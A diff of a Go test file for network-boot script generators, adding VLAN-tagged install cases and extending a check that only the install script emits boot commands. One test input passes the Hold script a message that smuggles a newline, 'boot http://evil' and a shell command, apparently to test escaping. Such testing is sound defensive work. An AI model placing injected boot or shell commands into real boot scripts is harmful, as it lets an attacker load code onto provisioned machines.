@@ -27,6 +27,8 @@ func TestScripts(t *testing.T) {
 		"first":        First(target("")),
 		"install-bios": Install(target(BIOS), installation()),
 		"install-uefi": Install(target(UEFI), installation()),
+		"install-vlan": Install(target(BIOS), Installation{CA: "sha256:00ff", Ticket: "t", VLAN: 20}),
+		"tagged":       Tagged(target(""), 20),
 		"disk-bios":    Disk(target(BIOS)),
 		"disk-uefi":    Disk(target(UEFI)),
 		"hold":         Hold(target(BIOS), "3 installations failed; \nboot http://evil || shell ${ticket}"),
@@ -49,7 +51,7 @@ func TestScripts(t *testing.T) {
 
 func TestOnlyTheInstallScriptCanInstall(t *testing.T) {
 	for name, text := range map[string]string{
-		"first": First(target(BIOS)), "disk": Disk(target(BIOS)), "disk, UEFI": Disk(target(UEFI)), "hold": Hold(target(UEFI), "why"),
+		"first": First(target(BIOS)), "disk": Disk(target(BIOS)), "disk, UEFI": Disk(target(UEFI)), "tagged": Tagged(target(""), 20), "hold": Hold(target(UEFI), "why"),
 	} {
 		for _, word := range []string{"kernel ", "cairn.mode", "cairn.ticket", "/image/", "\nboot"} {
 			if strings.Contains(text, word) {
